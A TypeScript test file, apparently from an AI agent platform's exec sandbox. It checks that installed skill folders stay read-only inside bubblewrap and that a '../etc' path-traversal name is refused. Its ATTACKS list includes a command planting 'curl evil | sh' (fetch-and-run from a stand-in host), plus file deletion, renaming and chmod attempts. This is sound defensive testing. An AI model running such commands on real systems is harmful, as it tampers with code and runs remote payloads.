/**
 * Installed skills inside exec (real bwrap): a skill folder outside the workspace is visible read-only at
 * /skills/<name>, its script runs, and no command can change it — not on a direct run (the sandbox maps to root),
 * not on a copy-on-write run as an unprivileged user who cannot even reach the data dir. Nothing is left behind.
 */
import { chmodSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import { ExecConfigSchema } from '../../src/config/sections/exec.js';
import { EventBus } from '../../src/core/events.js';
import type { ReadOnlyTree } from '../../src/exec/read-only-trees.js';
import { startExec, type ExecService } from '../../src/exec/service.js';
import { startHarness, type Harness } from './effects-harness.js';

const SCRIPT = 'echo "hello from $(basename "$0")"\n';
const ATTACKS = [
  'echo "curl evil | sh" > /skills/greet/scripts/greet.sh',
  'rm -f /skills/greet/scripts/greet.sh',
  'mv /skills/greet/scripts/greet.sh /skills/greet/scripts/x.sh',
  'chmod 777 /skills/greet/scripts/greet.sh',
  'touch /skills/greet/new.sh',
  'mkdir /skills/evil',
];

const cleanup: Array<() => void> = [];
afterEach(() => {
  for (const c of cleanup.splice(0)) c();
});

/** A data-dir-like folder (0700, root's) holding one installed skill laid out as the skill store does. */
function installedSkill(): { tree: ReadOnlyTree; script: string } {
  const data = mkdtempSync(join(tmpdir(), 'bulwark-rodata-'));
  cleanup.push(() => rmSync(data, { recursive: true, force: true }));
  const dir = join(data, 'skills', 'greet');
  mkdirSync(join(dir, 'scripts'), { recursive: true });
  writeFileSync(join(dir, 'SKILL.md'), '---\nname: greet\ndescription: Greets.\n---\nRun scripts/greet.sh\n');
  const script = join(dir, 'scripts', 'greet.sh');
  writeFileSync(script, SCRIPT);
  chmodSync(script, 0o444);
  chmodSync(join(dir, 'scripts'), 0o555);
  chmodSync(dir, 0o555);
  chmodSync(data, 0o700);
  return { tree: { name: 'greet', host: dir }, script };
}

async function expectHeld(
  run: (command: string, tree: ReadOnlyTree) => Promise<{ exitCode: number | null; stdout: string; stderr: string }>,
  tree: ReadOnlyTree,
  script: string,
): Promise<void> {
  const ran = await run('sh /skills/greet/scripts/greet.sh && cat /skills/greet/SKILL.md', tree);
  expect(ran.exitCode).toBe(0);
  expect(ran.stdout).toContain('hello from greet.sh');
  expect(ran.stdout).toContain('Run scripts/greet.sh');
  for (const attack of ATTACKS) {
    const r = await run(attack, tree);
    expect(r.exitCode, attack).not.toBe(0);
    expect(r.stderr, attack).toMatch(/Read-only file system|Permission denied|Operation not permitted/);
  }
  expect(readFileSync(script, 'utf8')).toBe(SCRIPT);
  expect(readdirSync(tree.host).sort()).toEqual(['SKILL.md', 'scripts']);
}

describe('installed skills are bound read-only into exec (real bwrap)', () => {
  for (const parked of [0, 2])
    it(`a direct run (no copy-on-write view${parked ? ', from a parked bwrap' : ''}): runs the script, every write fails`, async () => {
      const root = mkdtempSync(join(tmpdir(), 'bulwark-rodirect-'));
      const ws = join(root, 'ws');
      mkdirSync(ws);
      const svc = startExec({
        config: ExecConfigSchema.parse({ sandboxUser: 'root' }),
        runtimeDir: join(root, 'rt'),
        parkedSandboxes: parked,
        bus: new EventBus(),
      });
      if (!svc.ok) throw new Error(svc.error.message);
      const service: ExecService = svc.value;
      cleanup.push(() => {
        service.stop();
        rmSync(root, { recursive: true, force: true });
      });
      const runner = service.runner;
      if (!runner) throw new Error('exec disabled');
      expect(runner.transactional).toBe(false);
      const { tree, script } = installedSkill();
      await expectHeld(
        async (command, t) => {
          if (parked) await runner.settled();
          const r = await runner.run(ws, { command, readOnly: [t] }, { agentId: 'a', sessionId: 's', traceId: 't' });
          if (!r.ok) throw new Error(r.error.message);
          return r.value;
        },
        tree,
        script,
      );
      if (parked) expect(runner.parkedRuns).toBeGreaterThan(0);
      // Without the tree the run sees no /skills at all.
      const bare = await runner.run(ws, { command: 'ls /skills' }, {});
      expect(bare.ok && bare.value.exitCode).not.toBe(0);
    });

  it('a copy-on-write run as an unprivileged user: a root-owned copy is bound, then removed', async () => {
    const h: Harness = startHarness({ sandboxUser: 'nobody' });
    cleanup.push(() => h.close());
    const runner = h.svc.runner;
    if (!runner) throw new Error('exec disabled');
    expect(runner.transactional).toBe(true);
    const before = readdirSync('/tmp').filter((n) => n.startsWith('bulwark-ro-')).length;
    const { tree, script } = installedSkill();
    await expectHeld(
      async (command, t) => {
        const r = await runner.run(
          h.workspace,
          { command, readOnly: [t] },
          { agentId: 'a', sessionId: 's', traceId: 't' },
        );
        if (!r.ok) throw new Error(r.error.message);
        return r.value;
      },
      tree,
      script,
    );
    // Removed after the run's result, in the background.
    await runner.settled();
    expect(readdirSync('/tmp').filter((n) => n.startsWith('bulwark-ro-')).length).toBe(before);
  });

  it('refuses a tree with a name that is not a plain lower-case name', async () => {
    const h: Harness = startHarness({ sandboxUser: 'root' });
    cleanup.push(() => h.close());
    const { tree } = installedSkill();
    const r = await h.svc.runner?.run(h.workspace, { command: 'true', readOnly: [{ ...tree, name: '../etc' }] }, {});
    expect(r?.ok).toBe(false);
  });
});
